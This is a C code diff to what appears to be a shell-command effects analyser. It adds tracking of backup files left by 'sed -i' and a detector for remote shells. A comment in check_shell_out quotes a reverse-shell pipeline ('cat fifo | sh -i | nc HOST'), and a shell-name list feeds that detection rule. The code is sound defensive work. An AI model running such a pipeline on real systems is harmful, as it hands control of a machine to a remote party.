@@ -1282,6 +1282,21 @@ static void change_dir(struct effects *fx, struct args *a)
 	}
 }
 
+/* sed -i.bak FILE leaves FILE.bak: made by this line, so it may go again. */
+static void note_backups(struct effects *fx, const struct args *a)
+{
+	const char *suffix = args_value(a, "i"), *name = a->chain[0]->name[0];
+
+	if (!suffix || !*suffix || strchr(suffix, '/') || strchr(suffix, '*') || (strcmp(name, "sed") && strcmp(name, "perl") && strcmp(name, "ruby")))
+		return;
+	for (size_t i = 0; i < a->noperand; i++) {
+		char *copy = a->operand[i]->kind == WORD_EXACT ? arena_printf(fx->mem, "%s%s", a->operand[i]->text, suffix) : NULL;
+
+		if (copy)
+			effects_make(fx, (struct made){ .abs = paths_text(&fx->paths, copy, a->cmd->cwd, true)->abs, .from.origin = ORIGIN_UNKNOWN, .fresh = true });
+	}
+}
+
 static int run_tables(struct effects *fx, const struct simple *s, const struct node *n)
 {
 	struct args a;
@@ -1301,6 +1316,7 @@ static int run_tables(struct effects *fx, const struct simple *s, const struct n
 		effects_path(fx, s, EFFECT_UNKNOWN, a.odd, "an option that no rule knows");
 	for (size_t i = a.nchain; i-- > 0 && !special; )
 		special = a.chain[i]->special && *a.chain[i]->special ? a.chain[i]->special : NULL;
+	note_backups(fx, &a);
 	hook = special ? special_find(special) : NULL;
 	if (special && !hook && verbs_known(special))
 		return verbs_run(fx, &a, special);
@@ -1318,6 +1334,24 @@ static bool says_secret(const struct simple *s)
 	return false;
 }
 
+/* A shell that takes its lines from somewhere, with its output going to another machine: cat fifo | sh -i | nc HOST */
+static void check_shell_out(struct effects *fx, const struct simple *s)
+{
+	static const char *const shells[] = { "sh", "bash", "zsh", "dash", "ash", "ksh", "fish" };
+	unsigned stages = 0;
+
+	for (const struct simple *f = s->pipe_from; f && stages++ < 64; f = f->pipe_from) {
+		bool plain = f->pipe_from != NULL;
+
+		for (size_t i = 1; i < f->argc; i++)
+			plain = plain && f->argv[i].kind == WORD_EXACT && f->argv[i].text[0] == '-' && !strchr(f->argv[i].text, 'c');
+		for (size_t k = 0; plain && k < ARRAY_SIZE(shells); k++) {
+			if (!strcmp(base_name(program_of(f)), shells[k]))
+				effects_plain(fx, s, EFFECT_REMOTE_SHELL, "gives a shell to the network");
+		}
+	}
+}
+
 /* A secret goes where the command talks to: through its input, its words, or a file. */
 static void check_leak(struct effects *fx, const struct simple *s)
 {
@@ -1328,6 +1362,7 @@ static void check_leak(struct effects *fx, const struct simple *s)
 		effects_plain(fx, s, EFFECT_SECRET, "looks for secrets in what it reads");
 	if (!(seen_of(fx, s) & SEEN_HOST))
 		return;
+	check_shell_out(fx, s);
 	if (s->pipe_from && (effects_seen(fx, s->pipe_from) & SEEN_SECRET))
 		inside |= SEEN_SECRET;
 	if (seen_of(fx, s) & SEEN_SECRET)
@@ -1469,7 +1504,7 @@ void effects_finish(struct effects *fx)
 		if (s->argc == 1 && (!strcmp(name, "true") || !strcmp(name, ":")))
 			loop = s;
 		else if (!strcmp(name, "break") || !strcmp(name, "exit") || !strcmp(name, "return") || !strcmp(name, "wait") ||
-			 !strcmp(name, "sleep") || !strcmp(name, "read"))
+			 ((!strcmp(name, "sleep") || !strcmp(name, "read")) && !(s->flags & SIMPLE_BACKGROUND)))
 			return;
 	}
 	for (size_t i = 0; loop && i < fx->ncmd; i++) {
